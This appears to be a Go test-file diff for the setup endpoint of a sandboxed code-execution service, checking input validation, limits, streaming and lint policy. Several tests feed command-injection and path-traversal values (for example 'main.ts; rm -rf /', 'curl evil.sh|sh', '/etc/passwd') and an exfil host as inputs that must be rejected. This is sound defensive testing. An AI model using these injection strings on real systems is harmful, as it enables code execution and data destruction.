@@ -5,12 +5,16 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"net/http"
 	"net/http/httptest"
+	"reflect"
+	"strings"
 	"testing"
 
 	"github.com/jsfour/assist-tee/internal/executor"
 	"github.com/jsfour/assist-tee/internal/logger"
+	"github.com/jsfour/assist-tee/internal/middleware"
 	"github.com/jsfour/assist-tee/internal/models"
 )
 
@@ -84,6 +88,52 @@ func TestHandleSetup_InvalidJSON(t *testing.T) {
 	}
 }
 
+func TestHandleSetup_UnsupportedMediaType(t *testing.T) {
+	mock := executor.NewMockExecutor()
+	server := NewServer(mock)
+
+	req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader([]byte(`{"mainModule":"main.ts"}`)))
+	req.Header.Set("Content-Type", "text/plain")
+	rec := httptest.NewRecorder()
+
+	server.HandleSetup(rec, req)
+
+	if rec.Code != http.StatusUnsupportedMediaType {
+		t.Errorf("expected status %d, got %d", http.StatusUnsupportedMediaType, rec.Code)
+	}
+
+	var resp ErrorResponse
+	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
+		t.Fatalf("failed to unmarshal response: %v", err)
+	}
+
+	if resp.Code != "unsupported_media_type" {
+		t.Errorf("expected code 'unsupported_media_type', got '%s'", resp.Code)
+	}
+	if len(mock.SetupCalls) != 0 {
+		t.Error("executor should not be called for an unsupported content type")
+	}
+}
+
+func TestHandleSetup_JSONWithCharset(t *testing.T) {
+	mock := executor.NewMockExecutor()
+	server := NewServer(mock)
+
+	body, _ := json.Marshal(models.SetupRequest{
+		MainModule: "main.ts",
+		Modules:    map[string]string{"main.ts": "export function handler() {}"},
+	})
+	req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json; charset=utf-8")
+	rec := httptest.NewRecorder()
+
+	server.HandleSetup(rec, req)
+
+	if rec.Code != http.StatusOK {
+		t.Errorf("expected status %d, got %d: %s", http.StatusOK, rec.Code, rec.Body.String())
+	}
+}
+
 func TestHandleSetup_MissingMainModule(t *testing.T) {
 	mock := executor.NewMockExecutor()
 	server := NewServer(mock)
@@ -208,3 +258,587 @@ func TestHandleSetup_ExecutorError(t *testing.T) {
 		t.Errorf("expected error message 'docker volume creation failed', got '%s'", resp.Error)
 	}
 }
+
+func TestHandleSetup_DependencyInstallTimeout(t *testing.T) {
+	mock := executor.NewMockExecutor()
+	mock.SetupFunc = func(ctx context.Context, req *models.SetupRequest) (*models.Environment, error) {
+		return nil, fmt.Errorf("failed to install dependencies: %w", &executor.Error{
+			Code:    "dependency_install_timeout",
+			Message: "dependency installation did not finish within 10m0s (DEP_INSTALL_TIMEOUT_SECONDS)",
+		})
+	}
+	server := NewServer(mock)
+
+	body, _ := json.Marshal(models.SetupRequest{
+		MainModule:   "main.ts",
+		Modules:      map[string]string{"main.ts": "export function handler() {}"},
+		Dependencies: &models.Dependencies{NPM: []string{"zod@3.22.4"}},
+	})
+	req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	rec := httptest.NewRecorder()
+
+	server.HandleSetup(rec, req)
+
+	if rec.Code != http.StatusGatewayTimeout {
+		t.Errorf("expected status %d, got %d", http.StatusGatewayTimeout, rec.Code)
+	}
+	var resp ErrorResponse
+	json.Unmarshal(rec.Body.Bytes(), &resp)
+	if resp.Code != "dependency_install_timeout" {
+		t.Errorf("expected code 'dependency_install_timeout', got '%s'", resp.Code)
+	}
+}
+
+func TestHandleSetup_WithWarmup(t *testing.T) {
+	mock := executor.NewMockExecutor()
+	server := NewServer(mock)
+
+	reqBody := models.SetupRequest{
+		MainModule: "main.ts",
+		Modules: map[string]string{
+			"main.ts": "export function handler() { return 'hello'; }",
+		},
+		Warmup: &models.WarmupConfig{
+			Data: map[string]interface{}{"ping": true},
+		},
+	}
+
+	body, _ := json.Marshal(reqBody)
+	req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	rec := httptest.NewRecorder()
+
+	server.HandleSetup(rec, req)
+
+	if rec.Code != http.StatusOK {
+		t.Errorf("expected status %d, got %d", http.StatusOK, rec.Code)
+	}
+
+	if len(mock.SetupCalls) != 1 {
+		t.Fatalf("expected 1 setup call, got %d", len(mock.SetupCalls))
+	}
+
+	if mock.SetupCalls[0].Req.Warmup == nil {
+		t.Fatal("expected warmup config to be passed to executor")
+	}
+}
+
+func TestHandleSetup_InvalidModuleName(t *testing.T) {
+	mock := executor.NewMockExecutor()
+	server := NewServer(mock)
+
+	for _, name := range []string{"/etc/passwd", "../main.ts", "main.ts; rm -rf /", "$(id).ts"} {
+		reqBody := models.SetupRequest{
+			MainModule: name,
+			Modules: map[string]string{
+				name: "export function handler() {}",
+			},
+		}
+
+		body, _ := json.Marshal(reqBody)
+		req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+		req.Header.Set("Content-Type", "application/json")
+		rec := httptest.NewRecorder()
+
+		server.HandleSetup(rec, req)
+
+		if rec.Code != http.StatusBadRequest {
+			t.Errorf("%q: expected status %d, got %d", name, http.StatusBadRequest, rec.Code)
+		}
+	}
+
+	if len(mock.SetupCalls) != 0 {
+		t.Errorf("expected 0 setup calls, got %d", len(mock.SetupCalls))
+	}
+}
+
+func TestHandleSetup_TooManyModules(t *testing.T) {
+	t.Setenv("MAX_MODULES_PER_ENV", "2")
+
+	mock := executor.NewMockExecutor()
+	server := NewServer(mock)
+
+	body, _ := json.Marshal(models.SetupRequest{
+		MainModule: "main.ts",
+		Modules: map[string]string{
+			"main.ts": "export function handler() {}",
+			"a.ts":    "export const a = 1",
+			"b.ts":    "export const b = 2",
+		},
+	})
+	req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	rec := httptest.NewRecorder()
+
+	server.HandleSetup(rec, req)
+
+	if rec.Code != http.StatusBadRequest {
+		t.Fatalf("expected status %d, got %d", http.StatusBadRequest, rec.Code)
+	}
+
+	var resp ErrorResponse
+	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
+		t.Fatalf("failed to unmarshal response: %v", err)
+	}
+	if resp.Code != "validation_error" {
+		t.Errorf("expected code 'validation_error', got '%s'", resp.Code)
+	}
+	if len(mock.SetupCalls) != 0 {
+		t.Error("executor should not be called when the module limit is exceeded")
+	}
+}
+
+func TestHandleSetup_TooManyDependencies(t *testing.T) {
+	t.Setenv("MAX_DEPENDENCIES", "2")
+
+	mock := executor.NewMockExecutor()
+	server := NewServer(mock)
+
+	body, _ := json.Marshal(models.SetupRequest{
+		MainModule: "main.ts",
+		Modules:    map[string]string{"main.ts": "export function handler() {}"},
+		Dependencies: &models.Dependencies{
+			NPM:  []string{"zod@3.22.4", "lodash@4.17.21"},
+			Deno: []string{"jsr:@std/path"},
+		},
+	})
+	req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	rec := httptest.NewRecorder()
+
+	server.HandleSetup(rec, req)
+
+	if rec.Code != http.StatusBadRequest {
+		t.Fatalf("expected status %d, got %d", http.StatusBadRequest, rec.Code)
+	}
+	if len(mock.SetupCalls) != 0 {
+		t.Error("executor should not be called when the dependency limit is exceeded")
+	}
+}
+
+func TestHandleSetup_DuplicateModulePaths(t *testing.T) {
+	mock := executor.NewMockExecutor()
+	server := NewServer(mock)
+
+	body, _ := json.Marshal(models.SetupRequest{
+		MainModule: "main.ts",
+		Modules: map[string]string{
+			"main.ts":         "export function handler() { return 1 }",
+			"./main.ts":       "export function handler() { return 2 }",
+			"lib/util.ts":     "export const a = 1",
+			"lib/../other.ts": "export const b = 2",
+		},
+	})
+	req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	rec := httptest.NewRecorder()
+
+	server.HandleSetup(rec, req)
+
+	if rec.Code != http.StatusBadRequest {
+		t.Fatalf("expected status %d, got %d", http.StatusBadRequest, rec.Code)
+	}
+	var resp ErrorResponse
+	json.Unmarshal(rec.Body.Bytes(), &resp)
+	if resp.Code != "validation_error" || !strings.Contains(resp.Error, `"./main.ts" and "main.ts"`) {
+		t.Errorf("expected a duplicate module validation_error, got %+v", resp)
+	}
+	if len(mock.SetupCalls) != 0 {
+		t.Error("executor should not be called with duplicate module paths")
+	}
+}
+
+func TestHandleSetup_RuntimeVersion(t *testing.T) {
+	t.Setenv("RUNTIME_VERSIONS", "1.40, 1.41")
+
+	mock := executor.NewMockExecutor()
+	server := NewServer(mock)
+
+	for version, want := range map[string]int{"1.41": http.StatusOK, "2.0": http.StatusBadRequest} {
+		body, _ := json.Marshal(models.SetupRequest{
+			MainModule:     "main.ts",
+			Modules:        map[string]string{"main.ts": "export function handler() {}"},
+			RuntimeVersion: version,
+		})
+		req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+		req.Header.Set("Content-Type", "application/json")
+		rec := httptest.NewRecorder()
+
+		server.HandleSetup(rec, req)
+
+		if rec.Code != want {
+			t.Errorf("runtimeVersion %q: expected status %d, got %d", version, want, rec.Code)
+		}
+	}
+
+	if len(mock.SetupCalls) != 1 || mock.SetupCalls[0].Req.RuntimeVersion != "1.41" {
+		t.Errorf("expected a single setup pinned to 1.41, got %+v", mock.SetupCalls)
+	}
+}
+
+func TestHandleSetup_RunscOptions(t *testing.T) {
+	t.Setenv("RUNSC_ALLOWED_OPTIONS", "platform=kvm,platform=ptrace")
+
+	mock := executor.NewMockExecutor()
+	server := NewServer(mock)
+
+	cases := []struct {
+		runsc map[string]string
+		want  int
+	}{
+		{map[string]string{"platform": "kvm"}, http.StatusOK},
+		{map[string]string{"network": "host"}, http.StatusBadRequest},
+		{map[string]string{"platform": "qemu"}, http.StatusBadRequest},
+	}
+	for _, c := range cases {
+		body, _ := json.Marshal(models.SetupRequest{
+			MainModule: "main.ts",
+			Modules:    map[string]string{"main.ts": "export function handler() {}"},
+			Runsc:      c.runsc,
+		})
+		req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+		req.Header.Set("Content-Type", "application/json")
+		rec := httptest.NewRecorder()
+
+		server.HandleSetup(rec, req)
+
+		if rec.Code != c.want {
+			t.Errorf("runsc %v: expected status %d, got %d", c.runsc, c.want, rec.Code)
+		}
+	}
+
+	if len(mock.SetupCalls) != 1 {
+		t.Errorf("expected a single setup, got %d", len(mock.SetupCalls))
+	}
+}
+
+func TestHandleSetup_AllowNetOutsideGlobalAllowlist(t *testing.T) {
+	t.Setenv("GLOBAL_NET_ALLOWLIST", "api.example.com")
+
+	mock := executor.NewMockExecutor()
+	server := NewServer(mock)
+
+	body, _ := json.Marshal(models.SetupRequest{
+		MainModule:  "main.ts",
+		Modules:     map[string]string{"main.ts": "export function handler() {}"},
+		Permissions: &models.Permissions{AllowNet: []string{"api.example.com", "exfil.example.net"}},
+	})
+	req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	rec := httptest.NewRecorder()
+
+	server.HandleSetup(rec, req)
+
+	if rec.Code != http.StatusBadRequest {
+		t.Fatalf("expected status %d, got %d", http.StatusBadRequest, rec.Code)
+	}
+	var resp ErrorResponse
+	json.Unmarshal(rec.Body.Bytes(), &resp)
+	if resp.Code != "validation_error" {
+		t.Errorf("expected code 'validation_error', got '%s'", resp.Code)
+	}
+	if len(mock.SetupCalls) != 0 {
+		t.Error("executor should not be called when allowNet exceeds the global allowlist")
+	}
+}
+
+func TestHandleSetup_ProxyOutsideGlobalAllowlist(t *testing.T) {
+	t.Setenv("GLOBAL_NET_ALLOWLIST", "api.example.com")
+
+	mock := executor.NewMockExecutor()
+	server := NewServer(mock)
+
+	body, _ := json.Marshal(models.SetupRequest{
+		MainModule: "main.ts",
+		Modules:    map[string]string{"main.ts": "export function handler() {}"},
+		Proxy:      &models.ProxyConfig{HTTPSProxy: "http://exfil.example.net:8080"},
+	})
+	req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	rec := httptest.NewRecorder()
+
+	server.HandleSetup(rec, req)
+
+	if rec.Code != http.StatusBadRequest {
+		t.Fatalf("expected status %d, got %d", http.StatusBadRequest, rec.Code)
+	}
+	if len(mock.SetupCalls) != 0 {
+		t.Error("executor should not be called when the proxy is outside the global allowlist")
+	}
+}
+
+func TestHandleSetup_DenoAllowedHosts(t *testing.T) {
+	t.Setenv("DENO_ALLOWED_HOSTS", "deno.land, jsr.io")
+
+	cases := []struct {
+		deps       models.Dependencies
+		wantStatus int
+	}{
+		{models.Dependencies{Deno: []string{"https://deno.land/std@0.224.0/async/delay.ts", "jsr:@std/path@1.0.0"}}, http.StatusOK},
+		{models.Dependencies{Deno: []string{"https://evil.example.com/mod.ts"}}, http.StatusBadRequest},
+		{models.Dependencies{Deno: []string{"file:///etc/passwd"}}, http.StatusBadRequest},
+		{models.Dependencies{Deno: []string{"https://deno.land/x/a.ts;curl evil.sh|sh"}}, http.StatusBadRequest},
+		{models.Dependencies{NPM: []string{"lodash@4 && rm -rf /"}}, http.StatusBadRequest},
+		{models.Dependencies{JSR: []string{"@std/path@^1.0.0", "jsr:@std/assert"}}, http.StatusOK},
+		{models.Dependencies{JSR: []string{"lodash"}}, http.StatusBadRequest},
+		{models.Dependencies{JSR: []string{"@std/path;curl evil.sh|sh"}}, http.StatusBadRequest},
+		{models.Dependencies{JSR: []string{"@std/path@>/tmp/owned"}}, http.StatusBadRequest},
+		{models.Dependencies{JSR: []string{"@std/path@<1.0.0"}}, http.StatusBadRequest},
+		{models.Dependencies{JSR: []string{"@std/path@*"}}, http.StatusBadRequest},
+	}
+	for _, c := range cases {
+		mock := executor.NewMockExecutor()
+		server := NewServer(mock)
+
+		deps := c.deps
+		body, _ := json.Marshal(models.SetupRequest{
+			MainModule:   "main.ts",
+			Modules:      map[string]string{"main.ts": "export function handler() {}"},
+			Dependencies: &deps,
+		})
+		req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+		req.Header.Set("Content-Type", "application/json")
+		rec := httptest.NewRecorder()
+
+		server.HandleSetup(rec, req)
+
+		if rec.Code != c.wantStatus {
+			t.Errorf("%+v: expected status %d, got %d: %s", c.deps, c.wantStatus, rec.Code, rec.Body.String())
+		}
+	}
+}
+
+func TestHandleSetup_StreamProgress(t *testing.T) {
+	mock := executor.NewMockExecutor()
+	mock.SetupFunc = func(ctx context.Context, req *models.SetupRequest) (*models.Environment, error) {
+		if req.Progress == nil {
+			t.Fatal("expected a progress sink for a streamed setup")
+		}
+		req.Progress(models.SetupProgress{Stage: models.SetupStageVolumeCreated})
+		req.Progress(models.SetupProgress{Stage: models.SetupStageModuleWritten, Module: "main.ts", Completed: 1, Total: 1})
+		return &models.Environment{MainModule: req.MainModule, Status: "ready"}, nil
+	}
+	server := NewServer(mock)
+
+	body, _ := json.Marshal(models.SetupRequest{
+		MainModule: "main.ts",
+		Modules:    map[string]string{"main.ts": "export function handler() {}"},
+	})
+	req := httptest.NewRequest(http.MethodPost, "/environments/setup?stream=true", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	rec := httptest.NewRecorder()
+
+	server.HandleSetup(rec, req)
+
+	if rec.Code != http.StatusOK {
+		t.Fatalf("expected status %d, got %d", http.StatusOK, rec.Code)
+	}
+	if ct := rec.Header().Get("Content-Type"); ct != "text/event-stream" {
+		t.Errorf("expected an event stream, got %q", ct)
+	}
+	events := strings.Split(strings.TrimSpace(rec.Body.String()), "\n\n")
+	if len(events) != 3 {
+		t.Fatalf("expected 3 events, got %d: %s", len(events), rec.Body.String())
+	}
+	if events[0] != `event: progress`+"\n"+`data: {"stage":"volume_created"}` {
+		t.Errorf("unexpected first event: %s", events[0])
+	}
+	if !strings.HasPrefix(events[2], "event: done\ndata: ") || !strings.Contains(events[2], `"mainModule":"main.ts"`) {
+		t.Errorf("expected a done event carrying the environment, got %s", events[2])
+	}
+}
+
+func TestHandleSetup_StreamError(t *testing.T) {
+	mock := executor.NewMockExecutor()
+	mock.SetupFunc = func(ctx context.Context, req *models.SetupRequest) (*models.Environment, error) {
+		req.Progress(models.SetupProgress{Stage: models.SetupStageVolumeCreated})
+		return nil, &executor.Error{Code: "image_pull_failed", Message: "failed to pull busybox:latest"}
+	}
+	server := NewServer(mock)
+
+	body, _ := json.Marshal(models.SetupRequest{
+		MainModule: "main.ts",
+		Modules:    map[string]string{"main.ts": "export function handler() {}"},
+	})
+	req := httptest.NewRequest(http.MethodPost, "/environments/setup?stream=true", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	rec := httptest.NewRecorder()
+
+	server.HandleSetup(rec, req)
+
+	if !strings.HasSuffix(rec.Body.String(), "event: error\ndata: {\"error\":\"failed to pull busybox:latest\",\"code\":\"image_pull_failed\"}\n\n") {
+		t.Errorf("expected a final error event, got %s", rec.Body.String())
+	}
+
+	// Validation failures are still plain JSON errors
+	body, _ = json.Marshal(models.SetupRequest{MainModule: "main.ts"})
+	req = httptest.NewRequest(http.MethodPost, "/environments/setup?stream=true", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	rec = httptest.NewRecorder()
+	server.HandleSetup(rec, req)
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("expected status %d, got %d", http.StatusBadRequest, rec.Code)
+	}
+}
+
+func TestHandleSetup_HandlerName(t *testing.T) {
+	cases := []struct {
+		name       string
+		wantStatus int
+	}{
+		{"summarize", http.StatusOK},
+		{"$handle_v2", http.StatusOK},
+		{"2fast", http.StatusBadRequest},
+		{"handler; Deno.exit()", http.StatusBadRequest},
+		{"a.b", http.StatusBadRequest},
+		{strings.Repeat("h", 129), http.StatusBadRequest},
+	}
+	for _, c := range cases {
+		mock := executor.NewMockExecutor()
+		server := NewServer(mock)
+
+		body, _ := json.Marshal(models.SetupRequest{
+			MainModule:  "main.ts",
+			Modules:     map[string]string{"main.ts": "export function summarize() {}"},
+			HandlerName: c.name,
+		})
+		req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+		req.Header.Set("Content-Type", "application/json")
+		rec := httptest.NewRecorder()
+
+		server.HandleSetup(rec, req)
+
+		if rec.Code != c.wantStatus {
+			t.Errorf("handlerName %q: expected status %d, got %d: %s", c.name, c.wantStatus, rec.Code, rec.Body.String())
+		}
+		if c.wantStatus == http.StatusOK && mock.SetupCalls[0].Req.HandlerName != c.name {
+			t.Errorf("expected handlerName %q passed to the executor, got %q", c.name, mock.SetupCalls[0].Req.HandlerName)
+		}
+	}
+}
+
+func TestHandleSetup_HookModuleMissing(t *testing.T) {
+	mock := executor.NewMockExecutor()
+	server := NewServer(mock)
+
+	body, _ := json.Marshal(models.SetupRequest{
+		MainModule: "main.ts",
+		Modules:    map[string]string{"main.ts": "export function handler() {}"},
+		PostHook:   "metrics.ts",
+	})
+	req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	rec := httptest.NewRecorder()
+
+	server.HandleSetup(rec, req)
+
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("expected status %d, got %d", http.StatusBadRequest, rec.Code)
+	}
+	var resp ErrorResponse
+	json.Unmarshal(rec.Body.Bytes(), &resp)
+	if resp.Error != "postHook must exist in modules map" {
+		t.Errorf("unexpected error: %q", resp.Error)
+	}
+	if len(mock.SetupCalls) != 0 {
+		t.Error("expected setup not to be called")
+	}
+}
+
+func TestHandleSetup_RecordsCreator(t *testing.T) {
+	// Registered before Setenv so it resets auth once the env is restored
+	t.Cleanup(func() { middleware.InitAuth() })
+
+	cases := []struct {
+		name         string
+		authDisabled string
+		want         string
+	}{
+		{"token label", "false", "ci-pipeline"},
+		{"auth disabled", "true", "203.0.113.7"},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			t.Setenv("BEARER_TOKEN", "secret-token")
+			t.Setenv("BEARER_TOKEN_LABEL", "ci-pipeline")
+			t.Setenv("DISABLE_BEARER_TOKEN", c.authDisabled)
+			if err := middleware.InitAuth(); err != nil {
+				t.Fatalf("InitAuth: %v", err)
+			}
+
+			mock := executor.NewMockExecutor()
+			server := NewServer(mock)
+			handler := middleware.BearerAuth(http.HandlerFunc(server.HandleSetup))
+
+			body, _ := json.Marshal(map[string]interface{}{
+				"mainModule": "main.ts",
+				"modules":    map[string]string{"main.ts": "export function handler() {}"},
+				"createdBy":  "someone-else",
+			})
+			req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+			req.Header.Set("Content-Type", "application/json")
+			req.Header.Set("Authorization", "Bearer secret-token")
+			req.RemoteAddr = "203.0.113.7:52114"
+			rec := httptest.NewRecorder()
+
+			handler.ServeHTTP(rec, req)
+
+			if rec.Code != http.StatusOK {
+				t.Fatalf("expected status %d, got %d: %s", http.StatusOK, rec.Code, rec.Body.String())
+			}
+			if got := mock.SetupCalls[0].Req.CreatedBy; got != c.want {
+				t.Errorf("expected createdBy %q passed to the executor, got %q", c.want, got)
+			}
+			var env models.Environment
+			json.Unmarshal(rec.Body.Bytes(), &env)
+			if env.CreatedBy != c.want {
+				t.Errorf("expected createdBy %q in the response, got %q", c.want, env.CreatedBy)
+			}
+		})
+	}
+}
+
+func TestHandleSetup_PolicyViolation(t *testing.T) {
+	// Registered before Setenv so it reloads the rules once the env is restored
+	t.Cleanup(func() { executor.ValidateLintConfig() })
+	t.Setenv("MODULE_LINT_RULES", "no-eval,no-deno-run")
+	if err := executor.ValidateLintConfig(); err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	mock := executor.NewMockExecutor()
+	server := NewServer(mock)
+
+	body, _ := json.Marshal(map[string]interface{}{
+		"mainModule": "main.ts",
+		"modules": map[string]string{
+			"main.ts":  "import { run } from \"./util.ts\";\nexport function handler(e) {\n  return eval(e.data);\n}",
+			"util.ts":  "export const run = () => new Deno.Command(\"sh\");",
+			"clean.ts": "export const x = 1;",
+		},
+	})
+	req := httptest.NewRequest(http.MethodPost, "/environments/setup", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	rec := httptest.NewRecorder()
+
+	server.HandleSetup(rec, req)
+
+	if rec.Code != http.StatusUnprocessableEntity {
+		t.Fatalf("expected status %d, got %d: %s", http.StatusUnprocessableEntity, rec.Code, rec.Body.String())
+	}
+	var resp policyViolationResponse
+	json.Unmarshal(rec.Body.Bytes(), &resp)
+	if resp.Code != "policy_violation" {
+		t.Errorf("expected code 'policy_violation', got '%s'", resp.Code)
+	}
+	want := []executor.LintViolation{
+		{Module: "main.ts", Line: 3, Rule: "no-eval", Message: "eval is not allowed", Text: "return eval(e.data);"},
+		{Module: "util.ts", Line: 1, Rule: "no-deno-run", Message: "spawning subprocesses is not allowed", Text: "export const run = () => new Deno.Command(\"sh\");"},
+	}
+	if !reflect.DeepEqual(resp.Violations, want) {
+		t.Errorf("expected violations %+v, got %+v", want, resp.Violations)
+	}
+	if len(mock.SetupCalls) != 0 {
+		t.Error("executor should not be called for modules that break the lint policy")
+	}
+}